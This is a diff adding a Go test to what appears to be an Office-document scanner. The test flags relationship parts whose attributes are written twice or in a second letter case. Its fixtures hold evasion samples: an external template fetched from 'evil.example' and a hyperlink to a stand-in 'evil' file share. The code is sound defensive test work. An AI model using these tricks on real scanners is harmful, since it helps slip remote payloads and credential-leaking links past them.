@@ -39,3 +39,30 @@ func TestWordFieldSwitchesFirst(t *testing.T) {
 		}
 	}
 }
+
+// TestRelationshipAttributesTwice: a relationship's attribute written
+// twice, or in another case, makes the part not inspected. Before, the
+// last one was read, so a hyperlink to a share followed by
+// target="https://..." was counted as a web link, and
+// TargetMode="External" followed by targetMode="Internal" hid a template
+// fetched from the web.
+func TestRelationshipAttributesTwice(t *testing.T) {
+	const rels = "word/_rels/document.xml.rels"
+	part := func(rel string) []byte {
+		return docx(t, deflate(rels, []byte(`<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rel+`</Relationships>`)))
+	}
+	const typ = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+	// Which copy a program reads is its own choice: the part is not
+	// read, and the document not kept.
+	const twice = "office: relationships not inspected (an attribute written twice) in " + rels
+	runClassify(t, []classifyCase{
+		{name: "hyperlink, target in two cases", data: part(`<Relationship Id="rId9" Type="` + typ + `hyperlink" Target="\\evil\s\x.docx" target="https://www.city.example.lg.jp/" TargetMode="External"/>`), filename: "a.docx",
+			class: ClassOffice, findings: []string{twice}},
+		{name: "template, mode in two cases", data: part(`<Relationship Id="rId9" Type="` + typ + `attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External" targetMode="Internal"/>`), filename: "a.docx",
+			class: ClassOffice, findings: []string{twice}},
+		{name: "template typed twice, once as a hyperlink", data: part(`<Relationship Id="rId9" Type="` + typ + `attachedTemplate" type="` + typ + `hyperlink" Target="http://evil.example/t.dotm" TargetMode="External"/>`), filename: "a.docx",
+			class: ClassOffice, findings: []string{twice}},
+		{name: "web hyperlink", data: part(`<Relationship Id="rId9" Type="` + typ + `hyperlink" Target="https://www.city.example.lg.jp/" TargetMode="External"/>`), filename: "a.docx",
+			class: ClassOffice, clean: true},
+	})
+}
